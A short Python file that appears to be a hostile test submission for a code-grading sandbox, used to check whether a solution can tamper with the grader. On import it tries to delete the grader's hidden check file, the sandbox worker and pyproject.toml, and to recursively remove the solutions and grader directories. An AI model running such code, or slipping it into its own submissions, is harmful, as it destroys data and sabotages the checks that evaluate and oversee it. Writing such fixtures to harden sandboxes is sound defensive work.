"""Hostile submission: delete files."""
import os
import shutil

REPO = "__REPO__"
report = []
for target in ("solutions/relu_model.py", "grader/judging/checks/hidden/relu_model.py", "pyproject.toml",
               "grader/sandbox/worker.py"):
    try:
        os.remove(os.path.join(REPO, target))
        report.append(f"removed {target}")
    except OSError as exc:
        report.append(f"{target}: {type(exc).__name__}")
for folder in ("solutions", "grader"):
    try:
        shutil.rmtree(os.path.join(REPO, folder))
        report.append(f"removed {folder}")
    except OSError as exc:
        report.append(f"{folder}: {type(exc).__name__}")
print("REPORT", report)


def relu_model(features, weights, biases):
    raise RuntimeError("; ".join(report))
